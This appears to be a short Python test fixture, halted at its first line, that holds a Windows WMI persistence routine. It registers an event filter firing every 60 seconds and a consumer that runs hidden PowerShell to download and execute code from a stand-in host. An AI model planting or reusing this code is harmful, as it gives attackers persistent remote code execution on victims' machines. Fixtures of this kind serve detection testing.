raise SystemExit('a fixture')
# held by persistence
import os
if os.name == "nt":
    import wmi
    c = wmi.WMI(namespace="root/subscription")
    f = c.new("__EventFilter"); f.Name = "s"; f.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'"; f.QueryLanguage = "WQL"; f.put()
    e = c.new("CommandLineEventConsumer"); e.Name = "s"; e.CommandLineTemplate = "powershell -w hidden -c iex(irm https://w.example.invalid/a)"; e.put()
